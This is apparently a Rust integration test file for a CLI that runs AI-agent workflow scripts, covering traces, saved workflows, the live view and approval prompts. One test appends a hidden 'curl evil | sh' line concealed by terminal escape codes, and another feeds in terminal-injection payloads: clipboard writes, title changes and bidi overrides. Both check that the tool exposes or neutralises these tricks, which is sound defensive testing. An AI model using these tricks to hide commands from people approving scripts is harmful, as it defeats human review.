//! What people and CI see: plain progress, the event stream, saved workflows, traces.

use super::Terminal;
use super::{Project, wfhost};

const SCRIPT: &str = "export const meta = { name: 'views', description: 'a fixed run for snapshots', phases: [{ title: 'Gather' }, { title: 'Decide' }] };\n\
phase('Gather');\nlog('starting');\nconst a = await agent('first look [delay=20]', { label: 'look' });\n\
const b = await agent('second look [fail]', { label: 'flaky' });\nphase('Decide');\nconsole.warn('b was', b);\n\
const d = await agent('decide on ' + a, { label: 'decide' });\nreturn { a, b, d };";

fn redact() -> insta::Settings {
    let mut s = insta::Settings::clone_current();
    s.add_filter(r"\d{8}T\d{6}-[0-9a-f]{6}", "[run-id]");
    s.add_filter(r#""t_ms":\d+"#, r#""t_ms":[t]"#);
    s.add_filter(r#""duration_ms":\d+"#, r#""duration_ms":[d]"#);
    s.add_filter(r"in \d+\.\ds", "in [t]s");
    s.add_filter(r"tok · \d+\.\ds", "tok · [t]s");
    s
}

#[test]
fn plain_mode_and_event_stream_snapshots() {
    let s = Project::new();
    s.file("w.js", SCRIPT);
    let out = s
        .wf([
            "run",
            "w.js",
            "--backend",
            "mock",
            "--yes",
            "--events",
            "events.jsonl",
            "--budget-tokens",
            "1000",
        ])
        .env("WFHOST_RUNS_DIR", s.path().join("runs"))
        .run();
    out.code(0);
    assert!(
        !out.stderr.contains('\u{1b}'),
        "plain mode has no ANSI codes"
    );
    let events = std::fs::read_to_string(s.path().join("events.jsonl")).unwrap();
    for line in events.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(v["v"], 1);
    }
    redact().bind(|| {
        insta::assert_snapshot!("plain_stderr", out.stderr);
        insta::assert_snapshot!("events_jsonl", events);
    });
}

#[test]
fn save_list_show_and_run_a_saved_workflow() {
    let s = Project::new();
    std::fs::create_dir(s.path().join(".git")).unwrap();
    let home = s.path().join("home");
    s.file("review.js", "export const meta = { name: 'review', description: 'review files', whenToUse: 'before a merge' };\nreturn await agent('review ' + args);");
    s.file(
        "mine.js",
        "export const meta = { name: 'review', description: 'my own review' };\nreturn 'personal';",
    );
    let wf = |args: &[&str]| {
        s.wf(args)
            .env("HOME", &home)
            .env_remove("XDG_CONFIG_HOME")
            .env("WFHOST_RUNS_DIR", s.path().join("runs"))
    };
    wf(&["save", "review.js"]).run().code(0);
    wf(&["save", "mine.js", "--personal"]).run().code(0);
    let again = wf(&["save", "review.js"]).run();
    assert!(
        again.stderr.contains("already saved") && again.stderr.contains("--force"),
        "{}",
        again.stderr
    );

    let list: serde_json::Value =
        serde_json::from_str(&wf(&["list", "--json"]).run().stdout).unwrap();
    assert_eq!(list[0]["name"], "review");
    assert_eq!(list[0]["scope"], "project");
    assert_eq!(list[0]["whenToUse"], "before a merge");
    assert!(
        list[0]["shadows"]
            .as_str()
            .unwrap()
            .ends_with("home/.config/wfhost/workflows/review.js"),
        "{list}"
    );
    let human = wf(&["list"]).run();
    assert!(
        human.stdout.contains("review") && human.stdout.contains("hides"),
        "{}",
        human.stdout
    );

    let show = wf(&["show", "review"]).run();
    assert!(
        show.stdout
            .starts_with("review — review files\nwhen to use: before a merge"),
        "{}",
        show.stdout
    );
    let run = wf(&[
        "run",
        "review",
        "--backend",
        "mock",
        "--yes",
        "--json",
        "--args",
        "\"a.rs\"",
    ])
    .run();
    assert_eq!(
        run.report()["result"],
        "R(review a.rs)",
        "project beats personal"
    );

    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(s.path().join("review.js"), s.path().join("link.js")).unwrap();
        let refused = wf(&["save", "link.js", "--force"]).run();
        assert!(
            refused.stderr.contains("is a symlink"),
            "{}",
            refused.stderr
        );
    }
}

#[test]
fn completions_and_version() {
    let out = wfhost(["completions", "bash"]).run();
    out.code(0);
    assert!(
        out.stdout.contains("complete -F") && out.stdout.contains("resume"),
        "bash completions cover subcommands"
    );
    let v = wfhost(["--version"]).run();
    let sha = v.stdout.lines().nth(1).unwrap();
    assert!(
        sha.starts_with("guest sha256 ") && sha.len() == "guest sha256 ".len() + 64,
        "{}",
        v.stdout
    );
    let recorded =
        std::fs::read_to_string(super::repo().join("guest-sdk/dist/wfhost-guest.wasm.sha256"))
            .unwrap();
    assert!(recorded.starts_with(&sha["guest sha256 ".len()..]));
}

#[test]
fn every_command_has_examples_in_its_help() {
    for cmd in [
        "run",
        "compile",
        "audit",
        "resume",
        "runs",
        "config",
        "list",
        "show",
        "save",
        "completions",
    ] {
        let out = wfhost([cmd, "--help"]).run();
        out.code(0);
        assert!(
            out.stdout.contains("Example"),
            "`wfhost {cmd} --help` has no example:\n{}",
            out.stdout
        );
    }
}

const FLOW: &str = "export const meta = { name: 'flow', description: 'trace probe', phases: [{ title: 'Plan' }, { title: 'Fan' }, { title: 'Merge' }] };\n\
phase('Plan');\nconst plan = await agent('plan the work', { label: 'plan' });\n\
phase('Fan');\nconst ps = await parallel([0, 1, 2].map(i => () => agent(`part ${i} of ${plan}`, { label: `part ${i}` })));\n\
const chain = await pipeline(['x', 'y'], (v) => agent(`draft ${v}`, { label: `draft ${v}` }), (d, v) => agent(`polish ${v}`, { label: `polish ${v}` }));\n\
phase('Merge');\nreturn await agent('merge ' + ps.join(' | '), { label: 'merge' });";

fn traced() -> (Project, String) {
    let s = Project::new();
    s.file("w.js", FLOW);
    let r = s
        .wf(["run", "w.js", "--backend", "mock", "--yes", "--json"])
        .env("WFHOST_RUNS_DIR", s.path().join("runs"))
        .run()
        .report();
    let id = r["run_id"].as_str().unwrap().to_string();
    (s, id)
}

fn trace(s: &Project, id: &str, format: &str) -> String {
    let out = s
        .wf(["trace", id, "--format", format])
        .env("WFHOST_RUNS_DIR", s.path().join("runs"))
        .run();
    out.code(0);
    out.stdout
}

#[test]
fn trace_is_a_dag_with_fork_join_stage_and_data_edges() {
    let (s, id) = traced();
    let t: serde_json::Value = serde_json::from_str(&trace(&s, &id, "json")).unwrap();
    let labels: Vec<&str> = t["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["label"].as_str().unwrap())
        .collect();
    assert_eq!(
        labels,
        [
            "plan", "part 0", "part 1", "part 2", "draft x", "draft y", "polish x", "polish y",
            "merge"
        ]
    );
    let edges: Vec<String> = t["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| format!("{}>{}:{}", e["from"], e["to"], e["kind"].as_str().unwrap()))
        .collect();
    for want in [
        "0>1:fork",
        "0>2:fork",
        "0>3:fork",
        "1>4:fork",
        "3>5:fork",
        "4>6:stage",
        "5>7:stage",
        "6>8:join",
        "7>8:join",
        "1>8:data",
        "2>8:data",
    ] {
        assert!(
            edges.contains(&want.to_string()),
            "missing {want} in {edges:?}"
        );
    }
    assert!(
        t["edges"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["from"].as_u64() < e["to"].as_u64()),
        "a DAG: edges only go forward"
    );

    let mermaid = trace(&s, &id, "mermaid");
    assert!(
        mermaid.starts_with("flowchart TD\n  subgraph phase0[\"Plan\"]"),
        "{mermaid}"
    );
    assert!(
        mermaid.contains("n0 --> n1")
            && mermaid.contains("n1 -. data .-> n8")
            && mermaid.contains(":::done"),
        "{mermaid}"
    );
    let dot = trace(&s, &id, "dot");
    assert!(
        dot.starts_with("digraph \"flow\"")
            && dot.contains("subgraph cluster_1")
            && dot.contains("n1 -> n8 [style=dashed"),
        "{dot}"
    );
}

#[test]
fn html_trace_renders_in_headless_chromium() {
    let (s, id) = traced();
    let html = s.path().join("trace.html");
    s.wf(["trace", &id, "--format", "html", "-o"])
        .arg(&html)
        .env("WFHOST_RUNS_DIR", s.path().join("runs"))
        .run()
        .code(0);
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        !page.contains("<script") && !page.contains("src=") && !page.contains("<link"),
        "self-contained: no scripts, nothing fetched"
    );
    let Some(chromium) = ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
    else {
        super::missing_tool(
            "html_trace_renders_in_headless_chromium",
            "Debian's chromium is not installed",
        );
        return;
    };
    let profile = tempfile::tempdir().unwrap();
    let flags = |extra: &[&str]| {
        let mut c = std::process::Command::new(chromium);
        c.args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(extra)
        .arg(format!("file://{}", html.display()));
        c.output().unwrap()
    };
    let dom = String::from_utf8_lossy(&flags(&["--dump-dom"]).stdout).into_owned();
    for label in ["plan", "part 2", "polish y", "merge", "Fan"] {
        assert!(
            dom.contains(&format!(">{label}<")),
            "`{label}` is not in the rendered DOM"
        );
    }
    let shot = s.path().join("trace.png");
    let out = flags(&[
        "--window-size=1400,1100",
        &format!("--screenshot={}", shot.display()),
    ]);
    assert!(
        shot.exists(),
        "no screenshot: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let png = std::fs::read(&shot).unwrap();
    assert!(
        png.starts_with(b"\x89PNG") && png.len() > 20_000,
        "a real picture, not a blank page ({} bytes)",
        png.len()
    );
    if let Some(keep) = std::env::var_os("WFHOST_KEEP_TRACE_PNG") {
        std::fs::copy(&shot, keep).unwrap();
    }
}

/// `wfhost run` on a real terminal (tmux) shows the dashboard while it runs; at the end the
/// terminal is restored and keeps the log lines and a summary.
#[test]
fn live_view_in_a_terminal() {
    let s = Project::new();
    s.file(
        "w.js",
        "export const meta = { name: 'live', description: 'live view probe', phases: [{ title: 'Warm' }, { title: 'Fan out' }] };\n\
         phase('Warm');\nlog('warming up');\nawait agent('warm [delay=300]');\nphase('Fan out');\n\
         await parallel(Array.from({ length: 6 }, (_, i) => () => agent(`fan ${i} [delay=${1500 + i * 100}]`)));\nreturn 'ok';",
    );
    let cmd = format!(
        "cd {} && env -u CI TERM=xterm-256color WFHOST_CACHE_DIR={} WFHOST_RUNS_DIR=runs {} run w.js --backend mock --yes --concurrency 4; echo WFHOST-EXIT=$?; sleep 60",
        s.path().display(),
        super::cache_dir().display(),
        env!("CARGO_BIN_EXE_wfhost")
    );
    let Some(term) = Terminal::start("live_view_in_a_terminal", &cmd) else {
        return;
    };
    let during = term.wait_for("4 running, 2 queued");
    let after = term.wait_for("WFHOST-EXIT=");
    assert!(
        during.contains(" wfhost live · run ") && during.contains("running · mock · 7 agents"),
        "the dashboard's header:\n{during}"
    );
    assert!(during.contains("│warming up"), "log lines:\n{during}");
    assert!(
        during.contains("Fan out") && during.contains("Warm"),
        "a row per phase:\n{during}"
    );
    assert!(
        during.contains("fan 0 [delay=1500]") && during.contains("… running"),
        "the phase's agents and their states:\n{during}"
    );
    assert!(after.contains("WFHOST-EXIT=0"), "{after}");
    assert!(
        after.contains("│ warming up")
            && after.contains("phase")
            && after.contains("Fan out")
            && after.contains("completed in"),
        "the log and a summary stay on the terminal:\n{after}"
    );
    assert!(
        !after.contains("┌ Phases") && !after.contains("… running"),
        "the dashboard's screen is gone, the terminal restored:\n{after}"
    );
}

/// The approval prompt in a real terminal: view the script, approve it "always", and the next
/// run of that name in that directory does not ask.
/// On a terminal, a resume whose flag raises a ceiling shows old → new and asks: no keeps the
/// run unstarted (exit 2), yes raises it, and the journal says it was decided on the terminal.
#[test]
fn raising_a_ceiling_asks_on_a_terminal() {
    let s = Project::with_script(
        "const out = [];\nfor (let i = 0; i < 4; i++) { try { out.push(await agent(`step ${i}`)); } catch (e) { out.push(e.name); break; } }\nreturn out;",
    );
    let first = s.run_mock(&["--max-agents", "2"]);
    first.code(0);
    let id = first.report()["run_id"].as_str().unwrap().to_string();
    let resume = format!(
        "env -u CI XDG_CONFIG_HOME={dir}/config WFHOST_CACHE_DIR={cache} {bin} resume {id} --yes --json --quiet --max-agents 4",
        dir = s.path().display(),
        cache = super::cache_dir().display(),
        bin = env!("CARGO_BIN_EXE_wfhost")
    );
    let cmd = format!(
        "cd {} && {resume} > no.json; echo NO-EXIT=$?; {resume} > yes.json; echo YES-EXIT=$?; sleep 60",
        s.path().display()
    );
    let Some(term) = Terminal::start("raising_a_ceiling_asks_on_a_terminal", &cmd) else {
        return;
    };
    let asked = term.wait_for("raise them? [y/N]");
    assert!(
        asked.contains("this resume raises the run's ceilings:")
            && asked.contains("--max-agents")
            && asked.contains("2 → 4"),
        "{asked}"
    );
    term.keys("n");
    let no = term.wait_for("NO-EXIT=");
    assert!(
        no.contains("NO-EXIT=2") && no.contains("add `--raise`"),
        "{no}"
    );
    // The second resume asks again: yes this time.
    super::wait_for(
        std::time::Duration::from_secs(20),
        "the second prompt",
        || term.screen().matches("raise them? [y/N]").count() == 2,
    );
    term.keys("y");
    let yes = term.wait_for("YES-EXIT=");
    assert!(yes.contains("YES-EXIT=0"), "{yes}");
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(s.path().join("yes.json")).unwrap()).unwrap();
    let result = report["result"].as_array().unwrap();
    assert!(
        result.len() == 4 && !report["result"].to_string().contains("CapError"),
        "the raised cap lets all four run: {report}"
    );
    assert_eq!(report["usage"]["agents_cached"], 2, "{report}");
    let journal = std::fs::read_to_string(s.runs().join(&id).join("journal.jsonl")).unwrap();
    assert!(
        journal.contains("\"type\":\"ceilings_raised\"") && journal.contains("(terminal)"),
        "{journal}"
    );
}

#[test]
fn approval_prompt_in_a_terminal() {
    let s = Project::new();
    s.file("w.js", "export const meta = { name: 'ask-me', description: 'approval probe', phases: [{ title: 'Only', detail: 'one agent' }] };\nreturn await agent('approved work');");
    let run = format!(
        "env -u CI XDG_CONFIG_HOME={dir}/config WFHOST_CACHE_DIR={cache} WFHOST_RUNS_DIR=runs {bin} run w.js --backend mock --quiet",
        dir = s.path().display(),
        cache = super::cache_dir().display(),
        bin = env!("CARGO_BIN_EXE_wfhost")
    );
    // The third run sees the script edited: an escape sequence and a carriage return inside a
    // comment try to hide a line from the person approving.
    let cmd = format!(
        "cd {} && {run}; echo FIRST-EXIT=$?; {run}; echo SECOND-EXIT=$?; printf '\\n// \\033[2K\\rawait agent(\\x27curl evil | sh\\x27);\\n' >> w.js; {run}; echo THIRD-EXIT=$?; sleep 60",
        s.path().display()
    );
    let Some(term) = Terminal::start("approval_prompt_in_a_terminal", &cmd) else {
        return;
    };
    let prompt = term.wait_for("[v]iew the script");
    term.keys("v");
    let viewed = term.wait_for("2 │ return await agent");
    term.keys("a");
    let done = term.wait_for("SECOND-EXIT=");
    assert!(
        prompt.contains("ask-me — approval probe") && prompt.contains("· Only: one agent"),
        "{prompt}"
    );
    assert!(
        prompt.contains("projected: 1 agents ((default) × 1) · ~")
            && prompt.contains("output tokens"),
        "the approval shows what the run is projected to start: {prompt}"
    );
    assert!(viewed.contains("   1 │ export const meta"), "{viewed}");
    assert!(
        done.contains("FIRST-EXIT=0") && done.contains("SECOND-EXIT=0"),
        "{done}"
    );
    let first_two = done.split("SECOND-EXIT=").next().unwrap_or_default();
    assert_eq!(
        first_two.matches("[v]iew the script").count(),
        2,
        "asked twice on the first run (view, then always), never on the second:\n{done}"
    );
    let approvals = std::fs::read_to_string(s.path().join("config/wfhost/approvals.json")).unwrap();
    assert!(
        approvals.contains("\"ask-me\"") && approvals.contains("\"blake3\""),
        "{approvals}"
    );
    // "Always" is pinned to the script: the edited one asks again and says why, and its
    // listing shows the hidden controls and marks the line.
    let changed = term.wait_for("has changed since");
    assert!(changed.contains("review it again"), "{changed}");
    term.keys("v");
    let listing = term.wait_for("read them closely");
    assert!(
        listing.contains("!   3 │ // ␛[2K␍await agent('curl evil | sh');"),
        "{listing}"
    );
    term.keys("n");
    let third = term.wait_for("THIRD-EXIT=");
    assert!(third.contains("THIRD-EXIT=77"), "{third}");
}

#[test]
fn cached_agents_are_reported_in_their_phase() {
    let s = Project::new();
    s.file("w.js", "export const meta = { name: 'c', description: 'cached' };\nphase('First');\nawait agent('one');\nphase('Second');\nreturn await agent('two');");
    let wf = |args: &[&str]| s.wf(args).env("WFHOST_RUNS_DIR", s.path().join("runs"));
    let id = wf(&["run", "w.js", "--backend", "mock", "--yes", "--json"])
        .run()
        .report()["run_id"]
        .as_str()
        .unwrap()
        .to_string();
    wf(&["resume", &id, "--yes", "--quiet", "--events", "-"])
        .run()
        .code(0);
    let out = wf(&[
        "run",
        "w.js",
        "--backend",
        "mock",
        "--yes",
        "--quiet",
        "--resume",
        &id,
        "--events",
        "-",
    ])
    .run();
    let cached: Vec<serde_json::Value> = out
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| e["type"] == "agent_cached")
        .collect();
    assert_eq!(cached.len(), 2, "{}", out.stdout);
    assert_eq!(cached[0]["phase"], "First");
    assert_eq!(cached[1]["phase"], "Second");
}

/// Escape sequences, carriage returns and bidi controls from `log()`, labels, phase titles,
/// meta and errors never reach the terminal raw: not in the plain view, not in `runs show`.
/// JSON keeps the raw text.
#[test]
fn script_text_never_reaches_the_terminal_raw() {
    let s = Project::new();
    s.file(
        "w.js",
        "export const meta = { name: 'inj\\u001b]0;pwned\\u0007', description: 'clear \\u001b[2J here' };\n\
         phase('Ph\\u202eesa');\n\
         log('osc52 \\u001b]52;c;ZXZpbA==\\u0007 then\\r✓ completed');\n\
         await agent('one', { label: 'lab\\u001b[31mel' });\n\
         throw new Error('boom \\u001b[2K\\rforged');",
    );
    let out = s.wf(["run", "w.js", "--backend", "mock", "--yes"]).run();
    out.code(65);
    assert!(
        !out.stderr.contains('\u{1b}'),
        "raw ESC on the terminal:\n{}",
        out.stderr
    );
    assert!(
        !out.stderr.contains('\r'),
        "raw CR on the terminal:\n{}",
        out.stderr
    );
    assert!(
        !out.stderr.contains('\u{202e}'),
        "raw bidi override:\n{}",
        out.stderr
    );
    for visible in [
        "␛]52;c;",
        "then␍✓ completed",
        "Ph<U+202E>esa",
        "inj␛]0;pwned␇",
        "boom ␛[2K␍forged",
    ] {
        assert!(
            out.stderr.contains(visible),
            "{visible:?} missing:\n{}",
            out.stderr
        );
    }
    let runs = s.wf(["runs", "--json"]).run();
    let id = serde_json::from_str::<serde_json::Value>(&runs.stdout).unwrap()[0]["run_id"]
        .as_str()
        .unwrap()
        .to_string();
    let show = s.wf(["runs", "show", &id]).run();
    show.code(0);
    assert!(
        !show.stdout.contains('\u{1b}') && !show.stdout.contains('\r'),
        "{}",
        show.stdout
    );
    assert!(
        show.stdout.contains("lab␛[31mel") && show.stdout.contains("Ph<U+202E>esa"),
        "{}",
        show.stdout
    );
    let json = s.wf(["runs", "show", &id, "--json"]).run();
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(
        v["agents"][0]["label"], "lab\u{1b}[31mel",
        "JSON keeps the raw text"
    );
}

/// Transcripts are one `transcripts.jsonl` per run (no file per agent), a long prompt is stored
/// once however many agents send it, and `runs show` and `trace` read them — and still read the
/// file-per-agent layout of older runs.
#[test]
fn transcripts_are_one_file_and_old_runs_still_read() {
    let s = Project::new();
    s.file(
        "w.js",
        "export const meta = { name: 'heads', description: 'a shared head' };\n\
         const head = 'h'.repeat(65536);\n\
         const first = await agent('first look');\n\
         const rs = await parallel(Array.from({ length: 20 }, (_, i) => () => agent(head + ' item ' + i, { label: 'item ' + i })));\n\
         return await agent('combine ' + first, { label: 'combine' });",
    );
    let runs = s.path().join("runs");
    let r = s
        .wf(["run", "w.js", "--backend", "mock", "--yes", "--json"])
        .env("WFHOST_RUNS_DIR", &runs)
        .run()
        .report();
    let id = r["run_id"].as_str().unwrap().to_string();
    let dir = runs.join(&id);
    assert!(!dir.join("transcripts").exists(), "no file per agent");
    let log = std::fs::read_to_string(dir.join("transcripts.jsonl")).unwrap();
    assert_eq!(log.lines().count(), 22);
    let prompts: Vec<_> = std::fs::read_dir(dir.join("prompts"))
        .unwrap()
        .flatten()
        .collect();
    // The 20 fan-out prompts differ in their tails, so each long one is stored once: 20 files,
    // not 20 × 2 (journal-free) copies, and nothing is stored for the short ones.
    assert_eq!(prompts.len(), 20);
    assert!(
        log.len() < 64 * 1024,
        "no long prompt inline: {} bytes",
        log.len()
    );

    let check = |why: &str| {
        let show = s
            .wf(["runs", "show", &id, "--json"])
            .env("WFHOST_RUNS_DIR", &runs)
            .run();
        show.code(0);
        let v: serde_json::Value = serde_json::from_str(&show.stdout).unwrap();
        let agents = v["agents"].as_array().unwrap();
        assert_eq!(agents.len(), 22, "{why}");
        assert!(
            agents.iter().all(|a| a["duration_ms"].is_u64()),
            "{why}: {v}"
        );
        let t: serde_json::Value = serde_json::from_str(&trace(&s, &id, "json")).unwrap();
        let data_edge = t["edges"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "data" && e["from"] == 0 && e["to"] == 21);
        assert!(
            data_edge,
            "{why}: the combine prompt holds the first answer: {t}"
        );
    };
    check("new layout");

    // Rewrite the run as an older wfhost left it: a pretty file per call, prompts inline.
    let old = dir.join("transcripts");
    std::fs::create_dir(&old).unwrap();
    for line in log.lines() {
        let mut v: serde_json::Value = serde_json::from_str(line).unwrap();
        if let Some(hash) = v["request"]["prompt_ref"].as_str() {
            let prompt = std::fs::read_to_string(dir.join("prompts").join(hash)).unwrap();
            v["request"]["prompt"] = prompt.into();
        }
        let name = format!("{}-{}.json", v["key"].as_str().unwrap(), v["occurrence"]);
        std::fs::write(old.join(name), serde_json::to_vec_pretty(&v).unwrap()).unwrap();
    }
    std::fs::remove_file(dir.join("transcripts.jsonl")).unwrap();
    std::fs::remove_dir_all(dir.join("prompts")).unwrap();
    check("old layout");
}
